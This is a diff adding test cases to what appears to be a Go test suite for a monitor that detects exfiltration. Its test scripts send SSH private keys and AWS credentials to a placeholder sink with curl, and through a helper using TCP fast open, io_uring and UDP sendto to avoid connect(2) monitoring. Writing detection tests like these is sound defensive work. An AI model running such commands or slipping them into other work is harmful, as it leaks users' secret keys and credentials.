@@ -232,6 +232,15 @@ cat "$SCRATCH/cfg/id_ed25519"`},
 "$SCRATCH/updater" -s -d @"$HOME/.ssh/id_ed25519" "http://$SINK/r"`},
 	{name: "42_key_in_argv_by_substitution", rules: []string{ruleExfil}, check: keySent,
 		script: `curl -s -d "$(cat "$HOME/.ssh/id_ed25519")" "http://$SINK/c"`},
+
+	// Ways out that make no connect(2): only the cgroup sock_addr
+	// programs see them.
+	{name: "43_tcp_fast_open_send", rules: []string{ruleExfil}, check: keySent,
+		script: `"$AW_HELPER" tfo-send "$HOME/.ssh/id_ed25519" "$SINK"`},
+	{name: "44_io_uring_connect", rules: []string{ruleExfil}, check: keySent,
+		script: `"$AW_HELPER" uring-connect "$HOME/.ssh/id_ed25519" "$SINK"`},
+	{name: "45_unconnected_udp_sendto", rules: []string{ruleExfil},
+		script: `"$AW_HELPER" udp-sendto "$HOME/.aws/credentials" "$SINK"`},
 }
 
 func flat(s string) string { return strings.NewReplacer("\r", "", "\n", "").Replace(s) }
